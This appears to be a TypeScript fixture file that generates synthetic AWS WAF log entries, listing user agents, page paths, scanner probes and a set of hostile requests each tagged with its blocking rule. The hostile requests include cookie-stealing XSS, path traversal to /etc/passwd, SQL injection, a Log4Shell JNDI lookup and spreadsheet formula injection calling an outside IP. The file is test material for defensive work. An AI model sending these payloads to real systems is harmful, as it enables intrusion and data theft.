// Request details for the WAF log writer: user agents, paths, and the rules that end a request.
// Strings are stored JSON-encoded (quotes included) so the writer never escapes per line.

const json = (values: readonly string[]) => values.map((value) => JSON.stringify(value));

export const BROWSER_AGENTS = json([
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36',
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.0.0',
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
]);

export const TOOL_AGENTS = json([
  'python-requests/2.31.0',
  'curl/8.4.0',
  'Go-http-client/1.1',
  'Mozilla/5.0 zgrab/0.x',
  'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
  'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
]);

/** [uri, args] of ordinary pages; `#` is replaced by a number. */
export const PAGES: readonly (readonly [string, string])[] = [
  ['/', ''],
  ['/index.html', ''],
  ['/products/#', ''],
  ['/api/v1/items/#', ''],
  ['/api/v1/items', 'page=#&limit=50'],
  ['/search', 'q=winter+jacket&page=#'],
  ['/static/js/app.#.js', ''],
  ['/static/css/site.css', ''],
  ['/images/#.jpg', ''],
  ['/cart', ''],
  ['/account', ''],
  ['/favicon.ico', ''],
];

/** What scanners ask every web server for. */
export const PROBES = json([
  '/.env',
  '/wp-login.php',
  '/admin',
  '/phpmyadmin/',
  '/.git/config',
  '/actuator/health',
  '/server-status',
  '/cgi-bin/luci',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/HNAP1/',
  '/boaform/admin/formLogin',
]);

/**
 * Payloads: valid JSON, hostile if rendered as HTML, run in a shell or opened in a spreadsheet.
 * The app must show them as inert text. Each names the managed rule that blocks it.
 */
const HOSTILE_RAW: readonly (readonly [uri: string, args: string, agent: string, rule: string])[] = [
  ['/search', 'q=<script>alert(document.cookie)</script>', 'curl/8.4.0', 'CrossSiteScripting_QUERYARGUMENTS'],
  ['/<svg onload=alert(1)>', '', 'Mozilla/5.0 zgrab/0.x', 'CrossSiteScripting_URIPATH'],
  ['/../../../../etc/passwd', '', 'python-requests/2.31.0', 'GenericLFI_URIPATH'],
  ['/index.php', "id=1' OR '1'='1' -- ", 'sqlmap/1.7.2#stable (https://sqlmap.org)', 'SQLi_QUERYARGUMENTS'],
  ['/api/v1/items', 'sort=name', '$' + '{jndi:ldap://198.51.100.7:1389/a}', 'Log4JRCE_HEADER'],
  [
    '/export',
    "file==cmd|' /C calc'!A0",
    '=HYPERLINK("http://198.51.100.7","x")',
    'GenericRFI_QUERYARGUMENTS',
  ],
  ['/\u202egnp.exe', '', 'Mozilla/5.0 (Windows NT 10.0) "quoted" \\ backslash', 'GenericLFI_URIPATH'],
];

export interface HostileRequest {
  uri: string;
  args: string;
  agent: string;
  rule: WafRule;
}

export const HOSTS = ['www.example.com', 'api.example.com', 'auth.example.com', 'static.example.com'];

export interface WafRule {
  id: string;
  type: 'REGULAR' | 'RATE_BASED' | 'MANAGED_RULE_GROUP';
  action: 'ALLOW' | 'BLOCK';
  /** Pre-built `"ruleGroupList":[…]` member for managed rule groups. */
  groupList: string;
}

function managed(group: string, rule: string): WafRule {
  return {
    id: `AWS-${group}`,
    type: 'MANAGED_RULE_GROUP',
    action: 'BLOCK',
    groupList: `[{"ruleGroupId":"AWS#${group}","terminatingRule":{"ruleId":"${rule}","action":"BLOCK","ruleMatchDetails":null},"nonTerminatingMatchingRules":[],"excludedRules":null}]`,
  };
}

export const RULES = {
  allow: { id: 'Default_Action', type: 'REGULAR', action: 'ALLOW', groupList: '[]' },
  commonSize: managed('AWSManagedRulesCommonRuleSet', 'SizeRestrictions_QUERYSTRING'),
  badInputs: managed('AWSManagedRulesKnownBadInputsRuleSet', 'Host_localhost_HEADER'),
  rateLimit: { id: 'RateLimitPerIP', type: 'RATE_BASED', action: 'BLOCK', groupList: '[]' },
  loginRate: { id: 'LoginRateLimit', type: 'RATE_BASED', action: 'BLOCK', groupList: '[]' },
  geo: { id: 'GeoRestrictedCountries', type: 'REGULAR', action: 'BLOCK', groupList: '[]' },
} satisfies Record<string, WafRule>;

export const HOSTILE: readonly HostileRequest[] = HOSTILE_RAW.map(([uri, args, agent, rule]) => ({
  uri: JSON.stringify(uri),
  args: JSON.stringify(args),
  agent: JSON.stringify(agent),
  rule: managed('AWSManagedRulesCommonRuleSet', rule),
}));
